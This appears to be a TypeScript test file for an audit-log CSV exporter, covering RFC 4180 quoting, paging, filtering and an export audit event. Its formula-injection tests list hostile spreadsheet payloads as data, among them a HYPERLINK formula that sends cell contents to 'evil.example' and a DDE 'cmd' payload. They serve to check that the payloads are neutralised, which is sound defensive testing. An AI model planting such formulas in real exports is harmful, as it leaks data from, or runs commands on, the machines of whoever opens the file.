import { randomUUID } from 'node:crypto';
import { expect } from 'chai';
import { activityCsv, exportActivity } from '../../src/audit/activity-csv.ts';
import type { ActivityStore } from '../../src/audit/activity-store.ts';
import { csvLine } from '../../src/documents/csv.ts';
import { newUser, openTestStores, start } from '../storage/support/samples.ts';
import { eventOf, insertMany, listAll, recordEvents, upTo } from './support/events.ts';

/** The grammar of RFC 4180, section 2, written for this test alone. */
function parse(csv: string): string[][] {
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  const rows: string[][] = [[]];
  while (field.lastIndex < csv.length) {
    const at = field.lastIndex;
    const match = field.exec(csv);
    if (match === null) throw new Error(`no field at ${at}: ${csv.slice(at, at + 40)}`);
    rows.at(-1)?.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
    if (match[3] === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

async function collected(csv: AsyncIterable<string>): Promise<string[]> {
  const pieces: string[] = [];
  for await (const piece of csv) pieces.push(piece);
  return pieces;
}

/** A document by the names in its head. */
function records(csv: string): Record<string, string>[] {
  const [head = [], ...rows] = parse(csv);
  return rows.map((row) => Object.fromEntries(head.map((name, index) => [name, row[index] ?? ''])));
}

describe('a line of CSV', () => {
  const plain = [
    ...['', ' ', 'a', 'a b', ' a ', 'Zoë ✓ 名前', '日本,語', "it's", "'=1"],
    ...['a,b', ',', '"', '""', '"a"', 'a"b', 'a;b', 'a\tb', 'a\nb', 'a\r\nb', 'a\rb', 'a\n', '\\', '\\"'],
    ...['1-1', 'a=b', 'a@b.example', ' =1', '{"a":"=1"}', '0', '192.0.2.7', '2001:db8::1'],
  ];
  for (const field of plain) {
    it(`D28: carries ${JSON.stringify(field)} as it is`, () => {
      expect(parse(csvLine([field, 'end']))).to.deep.equal([[field, 'end']]);
      expect(parse(csvLine(['start', field]))).to.deep.equal([['start', field]]);
    });
  }

  const formulas = [
    ...['=', '=1+1', '=HYPERLINK("https://evil.example?"&A1,"x")', "=cmd|' /C calc'!A0", '+1', '-1', '--1'],
    ...['@SUM(1)', '\t=1', '\r=1', '\n=1', '\r\n=1', '＝1', '＋1', '－1', '＠SUM(1)', '-2+3,=1', '="a""b"'],
  ];
  for (const field of formulas) {
    it(`D28: makes text of the formula ${JSON.stringify(field)}`, () => {
      expect(parse(csvLine(['start', field, 'end']))).to.deep.equal([['start', `'${field}`, 'end']]);
    });
  }

  it('ends as RFC 4180 wants it', () => {
    expect(csvLine(['a', 'b,c', 'd"e'])).to.equal('a,"b,c","d""e"\r\n');
  });
});

describe('the activity as CSV', () => {
  it('D28: has the same events and people as the list', async () => {
    const db = await openTestStores();
    const organizationId = randomUUID();
    const [actor, target] = [
      await newUser(db, { name: '=HYPERLINK("https://evil.example")' }),
      await newUser(db),
    ];
    const detail = { before: { role: 'member' }, after: 'admin', reason: '@new, "job"', override: 'inherit' };
    const by = { kind: 'user', id: actor.id, sourceAddress: '192.0.2.7' } as const;
    await db.audit.record(eventOf(organizationId, { actor: by, userId: target.id, detail }), start);
    const [listed] = await listAll(db, organizationId);
    const [written, ...more] = records((await collected(activityCsv(db.activity, organizationId))).join(''));
    expect(more).to.deep.equal([]);
    expect(written).to.deep.equal({
      id: listed?.id,
      at: '2026-12-01T00:00:00.123Z',
      type: 'member.changed',
      actor: 'user',
      actor_id: actor.id,
      actor_email: actor.email,
      actor_name: '\'=HYPERLINK("https://evil.example")',
      target_id: target.id,
      target_email: target.email,
      source_address: '192.0.2.7',
      before: '{"role":"member"}',
      after: 'admin',
      reason: '\'@new, "job"',
      detail: '{"override":"inherit"}',
    });
  });

  it('leaves empty what is not there, and keeps a false, a zero and an empty text apart from it', async () => {
    const db = await openTestStores();
    const organizationId = randomUUID();
    await db.audit.record(eventOf(organizationId, { detail: { before: false, after: 0 } }), start);
    const [written] = records((await collected(activityCsv(db.activity, organizationId))).join(''));
    expect(written).to.include({ before: 'false', after: '0', reason: '', detail: '', actor_id: '' });
  });

  it('is its head alone for an organization without events', async () => {
    const db = await openTestStores();
    const pieces = await collected(activityCsv(db.activity, randomUUID()));
    expect(pieces).to.have.length(1);
    expect(pieces[0]).to.match(/^id,at,type,actor,.*\r\n$/);
  });

  it('is filtered like the list', async () => {
    const db = await openTestStores();
    const organizationId = await recordEvents(db, 2);
    await db.audit.record(eventOf(organizationId, { type: 'member.left' }), start);
    const csv = await collected(activityCsv(db.activity, organizationId, { type: 'member.left' }));
    expect(records(csv.join('')).map(({ type }) => type)).to.deep.equal(['member.left']);
  });

  it('D28: comes page by page, each read when the one before was taken, and never all at once', async () => {
    const db = await openTestStores();
    const organizationId = randomUUID();
    await insertMany(db, 450, [organizationId]);
    let pages = 0;
    const counting: Pick<ActivityStore, 'list'> = {
      list(...asked) {
        pages += 1;
        return db.activity.list(...asked);
      },
    };
    const csv = activityCsv(counting, organizationId);
    await csv.next();
    expect(pages).to.equal(0);
    const sizes: number[] = [];
    for await (const piece of csv) {
      sizes.push(parse(piece).length);
      expect(pages).to.equal(sizes.length);
    }
    expect(sizes).to.deep.equal([200, 200, 50]);
  });

  it('is the same while new events arrive', async () => {
    const db = await openTestStores();
    const organizationId = randomUUID();
    await insertMany(db, 401, [organizationId]);
    const pieces: string[] = [];
    for await (const piece of activityCsv(db.activity, organizationId)) {
      pieces.push(piece);
      if (pieces.length > 1) await recordEvents(db, 3, organizationId);
    }
    const afters = records(pieces.join('')).map(({ after }) => Number(after) + 1);
    expect(afters).to.deep.equal(upTo(401).reverse());
  });

  it('D28: leaves an event that says who exported what', async () => {
    const db = await openTestStores();
    const organizationId = await recordEvents(db, 1);
    const actor = { kind: 'operator' } as const;
    const filter = { from: start };
    const csv = await exportActivity(db, organizationId, { actor, now: start, filter });
    const [first] = records((await collected(csv)).join(''));
    expect(first).to.include({ type: 'organization.exported', actor: 'operator' });
    expect(JSON.parse(first?.detail ?? '')).to.deep.equal({ what: 'activity', from: start.toISOString() });
  });
});
